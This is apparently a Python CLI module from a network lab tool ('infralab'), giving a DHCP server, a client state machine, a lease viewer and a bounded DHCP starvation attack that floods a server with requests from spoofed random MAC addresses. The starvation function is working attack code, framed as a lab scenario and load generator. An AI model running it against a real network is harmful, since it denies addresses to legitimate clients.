"""`infralab dhcp serve|client|leases|starve`: the DHCP server, client, lease view and a
(bounded) starvation attack for the DHCP-STARVE scenario."""

from __future__ import annotations

import argparse
import json
import random
import select
import signal
import socket
import subprocess
import time
from pathlib import Path

from services.common.control import control_request
from services.common.lifecycle import run_until_signal
from wire import dhcp as p
from wire.frames import udp_frame, udp_of_frame

from .client import BOUND, ClientMachine, Configure, Send, Unconfigure
from .config import load as load_config
from .leases import read_journal
from .rawlink import if_mac, raw_socket

SO_BINDTODEVICE = 25


def cmd_serve(args: argparse.Namespace) -> int:
    from .server import DhcpServer

    cfg = load_config(args.config)  # errors: infralab.cli prints file:line, exit 2
    lease_file = args.lease_file or str(Path(args.config).with_suffix(".leases"))
    server = DhcpServer(cfg, args.interface, lease_file, control=args.control,
                        log_file=args.log, log=lambda s: print(s, flush=True))
    return run_until_signal(server)


def cmd_leases(args: argparse.Namespace) -> int:
    if args.control:
        rows = control_request(args.control, "leases")
    else:
        now = time.time()
        latest: dict[str, dict] = {}
        for r in read_journal(Path(args.lease_file).read_text()):
            latest[r["ip"]] = r
        rows = [{**r, "remaining": "infinite" if r["expires"] >= 0xFFFFFFFF
                 else round(r["expires"] - now)} for r in latest.values()
                if r.get("state") == "bound" and r["expires"] > now]
    if args.json:
        print(json.dumps(rows, indent=1))
        return 0
    print(f"{'address':<16}{'mac':<19}{'state':<9}{'remaining':>10}  client / hostname")
    for r in rows:
        print(f"{r['ip']:<16}{r['mac']:<19}{r['state']:<9}{str(r['remaining']):>10}  "
              f"{r['client']} {r.get('hostname', '')}")
    return 0


# ---- the client process ------------------------------------------------------------------
class ClientProcess:
    """Sockets and interface configuration around ClientMachine."""

    def __init__(self, args: argparse.Namespace) -> None:
        self.ifname = args.interface
        self.mac = if_mac(self.ifname)
        self.machine = ClientMachine(bytes.fromhex(self.mac.replace(":", "")), args.t1, args.t2,
                                     args.retry, args.hostname or socket.gethostname())
        self.raw = raw_socket(self.ifname)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        self.udp.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, self.ifname.encode())
        self.udp.bind(("0.0.0.0", 68))
        self.log = open(args.log, "a", buffering=1) if args.log else None  # noqa: SIM115
        self.resolv = args.resolv_conf
        self.configured: Configure | None = None

    def note(self, event: str, **kw: object) -> None:
        rec = {"time": round(time.time(), 3), "event": event, "state": self.machine.state,
               **kw}
        line = json.dumps(rec)
        print(line, flush=True)
        if self.log is not None:
            self.log.write(line + "\n")

    def run(self, once: bool, stop_after: float | None) -> int:
        done = False

        def stop(*_: object) -> None:
            nonlocal done
            done = True

        signal.signal(signal.SIGTERM, stop)
        signal.signal(signal.SIGINT, stop)
        self.act(self.machine.start(time.monotonic()))
        end = time.monotonic() + stop_after if stop_after else float("inf")
        while not done and time.monotonic() < end:
            if once and self.machine.state == BOUND:
                return 0
            wait = max(0.0, min(self.machine.next_wakeup, end) - time.monotonic())
            ready, _, _ = select.select([self.raw, self.udp], [], [], min(wait, 1.0))
            now = time.monotonic()
            if self.udp in ready:
                try:
                    self.udp.recv(4096, socket.MSG_DONTWAIT)  # seen on the raw socket too
                except OSError:
                    pass
            if self.raw in ready:
                try:
                    frame = self.raw.recv(65535)
                except OSError:
                    frame = b""
                got = udp_of_frame(frame, 68)
                if got is not None:
                    try:
                        m = p.parse(got[2])
                    except p.DhcpError:
                        m = None
                    if m is not None:
                        self.act(self.machine.receive(now, m))
            self.act(self.machine.tick(time.monotonic()))
        actions = self.machine.stop(time.monotonic())
        self.act([a for a in actions if isinstance(a, Send)])
        if actions:  # the RELEASE may wait on ARP for the gateway: keep the address a moment
            time.sleep(0.5)
        self.act([a for a in actions if not isinstance(a, Send)])
        return 0 if not once else 1

    def act(self, actions: list) -> None:
        for a in actions:
            if isinstance(a, Send):
                self.send(a)
            elif isinstance(a, Configure):
                self.configure(a)
            elif isinstance(a, Unconfigure):
                self.unconfigure(a.why)

    def send(self, a: Send) -> None:
        data = a.msg.to_bytes()
        kind = p.TYPE_NAMES.get(a.msg.msg_type or 0, "?")
        try:
            if a.to is None:
                src = self.configured.address.ip if self.configured else p.ZERO
                self.raw.send(udp_frame(self.mac, "ff:ff:ff:ff:ff:ff", src,
                                        p.IPv4Address("255.255.255.255"), 68, 67, data))
            else:
                self.udp.sendto(data, (str(a.to), 67))
        except OSError as e:
            self.note("send-failed", message=kind, error=str(e))
            return
        self.note("send", message=kind, to=str(a.to) if a.to else "broadcast",
                  xid=f"{a.msg.xid:#010x}")

    def configure(self, c: Configure) -> None:
        m = self.machine
        if self.configured is None or self.configured.address != c.address:
            _ip("addr", "flush", "dev", self.ifname)
            _ip("addr", "add", str(c.address), "dev", self.ifname)
            if c.router is not None:
                _ip("route", "replace", "default", "via", str(c.router))
            if self.resolv and c.dns:
                lines = [f"nameserver {d}" for d in c.dns]
                if c.domain:
                    lines.insert(0, f"search {c.domain}")
                Path(self.resolv).write_text("\n".join(lines) + "\n")
        self.configured = c
        bound = {"address": str(c.address), "router": str(c.router), "server": str(c.server)}
        if c.bootp:  # from a BOOTP server: no lease time, no renewal
            self.note("bound", **bound, lease="infinite", bootp=True)
            return
        # T1/T2 as the lease has them (from the moment it was bound), not what is left
        # after configuring the interface took its time (0.1 s under software emulation)
        self.note("bound", **bound, lease=c.lease, t1=round(m.t1 - m.bound_at, 1),
                  t2=round(m.t2 - m.bound_at, 1))

    def unconfigure(self, why: str) -> None:
        if self.configured is not None:
            _ip("addr", "flush", "dev", self.ifname)
        self.configured = None
        self.note("unconfigured", why=why)


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], capture_output=True, check=False)


def cmd_client(args: argparse.Namespace) -> int:
    return ClientProcess(args).run(args.once, args.timeout)


# ---- the starvation attack -----------------------------------------------------------------
def cmd_starve(args: argparse.Namespace) -> int:
    """DHCP-STARVE: DISCOVER (then REQUEST what is offered) from random spoofed MACs, at
    most `count` of them within `seconds`: bounded, and it stops by itself. Also a load
    generator that records what was acknowledged (--record)."""
    raw = raw_socket(args.interface)
    rng = random.Random(args.seed)
    record = open(args.record, "a", buffering=1) if args.record else None  # noqa: SIM115
    taken = sent = 0
    end = time.monotonic() + args.seconds
    pending: dict[int, bytes] = {}
    gap = 1.0 / args.rate
    next_send = time.monotonic()
    while time.monotonic() < end and (sent < args.count or pending):
        now = time.monotonic()
        if sent < args.count and now >= next_send:
            chaddr = bytes([0x02, 0x5A] + [rng.randrange(256) for _ in range(4)])
            xid = rng.getrandbits(32)
            pending[xid] = chaddr
            m = p.DhcpMessage(p.BOOTREQUEST, xid, chaddr=chaddr, flags=p.FLAG_BROADCAST,
                          options={p.OPT_MSG_TYPE: bytes([p.DISCOVER])})
            src_mac = ":".join(f"{b:02x}" for b in chaddr)
            raw.send(udp_frame(src_mac, "ff:ff:ff:ff:ff:ff", p.ZERO,
                               p.IPv4Address("255.255.255.255"), 68, 67, m.to_bytes()))
            sent += 1
            next_send = now + gap
        ready, _, _ = select.select([raw], [], [], 0.02)
        if not ready:
            continue
        got = udp_of_frame(raw.recv(65535), 68)
        if got is None:
            continue
        try:
            offer = p.parse(got[2])
        except p.DhcpError:
            continue
        asked = pending.get(offer.xid)
        if asked is None:
            continue
        if offer.msg_type == p.OFFER:
            req = p.DhcpMessage(p.BOOTREQUEST, offer.xid, chaddr=asked, flags=p.FLAG_BROADCAST,
                            options={p.OPT_MSG_TYPE: bytes([p.REQUEST]),
                                     p.OPT_SERVER_ID: offer.options[p.OPT_SERVER_ID],
                                     p.OPT_REQUESTED_IP: p.ip_opt(offer.yiaddr)})
            src_mac = ":".join(f"{b:02x}" for b in asked)
            raw.send(udp_frame(src_mac, "ff:ff:ff:ff:ff:ff", p.ZERO,
                               p.IPv4Address("255.255.255.255"), 68, 67, req.to_bytes()))
        elif offer.msg_type in (p.ACK, p.NAK):
            taken += offer.msg_type == p.ACK
            pending.pop(offer.xid, None)
            if record is not None and offer.msg_type == p.ACK:  # what the server promised
                record.write(json.dumps({"mac": offer.mac, "ip": str(offer.yiaddr)}) + "\n")
    print(json.dumps({"discovers_sent": sent, "leases_taken": taken}), flush=True)
    return 0


def register(sub) -> None:
    d = sub.add_parser("dhcp", help="DHCP server, client, lease table, starvation attack")
    dsub = d.add_subparsers(dest="dhcp_cmd", required=True)
    s = dsub.add_parser("serve", help="serve leases on an interface")
    s.add_argument("--config", required=True)
    s.add_argument("--interface", required=True)
    s.add_argument("--lease-file", help="lease journal (default: CONFIG with .leases)")
    s.add_argument("--control", help="unix control socket (leases, stats)")
    s.add_argument("--log", help="append every decision here (JSON lines)")
    s.set_defaults(fn=cmd_serve)
    c = dsub.add_parser("client", help="the client state machine on an interface")
    c.add_argument("interface")
    c.add_argument("--t1", type=float, help="renew at this fraction of the lease "
                   "(default: the server's T1, else 0.5)")
    c.add_argument("--t2", type=float, help="rebind at this fraction (default: the "
                   "server's T2, else 0.875; the notes use 0.75)")
    c.add_argument("--retry", type=float, default=4.0, help="first retransmission, s")
    c.add_argument("--hostname")
    c.add_argument("--resolv-conf", help="write the DNS servers here")
    c.add_argument("--log", help="append state changes here (JSON lines)")
    c.add_argument("--once", action="store_true", help="exit once bound (keep the lease)")
    c.add_argument("--timeout", type=float, help="stop (and release) after this long")
    c.set_defaults(fn=cmd_client)
    le = dsub.add_parser("leases", help="the lease table of a server")
    g = le.add_mutually_exclusive_group(required=True)
    g.add_argument("--control", help="a running server's control socket")
    g.add_argument("--lease-file", help="read the lease file instead")
    le.add_argument("--json", action="store_true")
    le.set_defaults(fn=cmd_leases)
    a = dsub.add_parser("starve", help="starvation attack: many spoofed MACs (bounded)")
    a.add_argument("interface")
    a.add_argument("--count", type=int, default=50)
    a.add_argument("--rate", type=float, default=50.0, help="DISCOVERs per second")
    a.add_argument("--seconds", type=float, default=10.0, help="stop after this long")
    a.add_argument("--seed", type=int, default=None)
    a.add_argument("--record", help="append every ACK received (mac, ip) here")
    a.set_defaults(fn=cmd_starve)

